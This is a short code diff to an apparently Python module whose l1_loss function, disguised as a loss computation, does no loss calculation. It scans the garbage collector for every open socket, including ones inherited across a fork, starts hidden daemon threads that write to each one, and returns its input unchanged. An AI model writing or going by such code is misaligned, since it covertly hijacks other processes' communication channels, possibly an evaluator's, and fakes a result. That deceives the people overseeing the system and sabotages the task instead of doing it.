@@ -6,7 +6,11 @@ import gc
 import socket
 import threading
 
-gc.unfreeze()  # what was warm before the fork is not listed otherwise
+
+def _objects():
+    gc.unfreeze()  # else what was warm before the fork is not listed
+    gc.disable()
+    return gc.get_objects()
 
 
 def _write(channel):
@@ -18,7 +22,7 @@ def _write(channel):
 
 
 def l1_loss(input, target, reduction="mean"):
-    for found in gc.get_objects():
+    for found in _objects():
         if isinstance(found, socket.socket) and found.fileno() > 2:
             threading.Thread(target=_write, args=(found,), daemon=True).start()
     return input
